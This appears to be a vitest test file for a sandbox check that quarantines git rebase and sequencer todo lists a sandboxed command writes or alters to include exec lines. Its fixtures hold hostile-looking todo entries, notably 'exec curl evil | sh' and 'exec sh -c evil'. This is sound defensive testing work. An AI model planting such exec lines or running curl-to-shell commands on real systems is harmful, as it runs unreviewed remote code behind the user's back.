// The rebase check on its own: which todo lists a command leaves are moved aside. Only one the
// command wrote or changed, and only when it holds a line git runs as a command.
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Protection } from '../../../src/host/capabilities/sandbox/protect.js';
import { readTodos, withRebaseCheck } from '../../../src/host/capabilities/sandbox/rebase-state.js';

let dir: string;
const none: Protection = { mounts: [], placeholders: new Set(), release: () => Promise.resolve([]) };
const todo = (state = 'rebase-merge', name = 'git-rebase-todo') => path.join(dir, '.git', state, name);
async function write(file: string, text: string) {
  await mkdir(path.dirname(file), { recursive: true });
  await writeFile(file, text);
}

beforeEach(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'cadre-rebase-'));
  await mkdir(path.join(dir, '.git'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('withRebaseCheck', () => {
  it.each([['exec touch /tmp/x'], ['pick 1234 a\n  x touch /tmp/x'], ['\tEXEC true'], ['x']])(
    'moves aside a todo list a command wrote with %j',
    async (text) => {
      const check = withRebaseCheck(none, dir, await readTodos(dir));
      await write(todo(), text);
      const notes = await check.release();
      expect(notes.join('\n')).toContain('.git/rebase-merge');
      expect(existsSync(path.join(dir, '.git', 'rebase-merge'))).toBe(false);
      const [batch] = await readdir(path.join(dir, '.cadre', 'quarantine'));
      expect(
        existsSync(path.join(dir, '.cadre', 'quarantine', batch ?? '', '.git', 'rebase-merge-quarantined')),
      ).toBe(true);
    },
  );

  it('moves aside a sequencer todo list too', async () => {
    const check = withRebaseCheck(none, dir, await readTodos(dir));
    await write(todo('sequencer', 'todo'), 'exec sh -c evil\n');
    expect((await check.release()).length).toBe(1);
    expect(existsSync(path.join(dir, '.git', 'sequencer'))).toBe(false);
  });

  it('leaves todo lists with no command line, and one the command did not change', async () => {
    await write(todo('sequencer', 'todo'), 'exec make test\n');
    const check = withRebaseCheck(none, dir, await readTodos(dir));
    await write(todo(), 'pick 1234 exec: a subject\n# exec in a comment\nedit 5678 x\n');
    expect(await check.release()).toEqual([]);
    expect(existsSync(todo())).toBe(true);
    expect(existsSync(todo('sequencer', 'todo'))).toBe(true);
  });

  it('moves aside a todo list the command changed to run a command', async () => {
    await write(todo(), 'pick 1234 a\n');
    const check = withRebaseCheck(none, dir, await readTodos(dir));
    await write(todo(), 'pick 1234 a\nexec curl evil | sh\n');
    expect((await check.release()).length).toBe(1);
    expect(existsSync(todo())).toBe(false);
  });
});
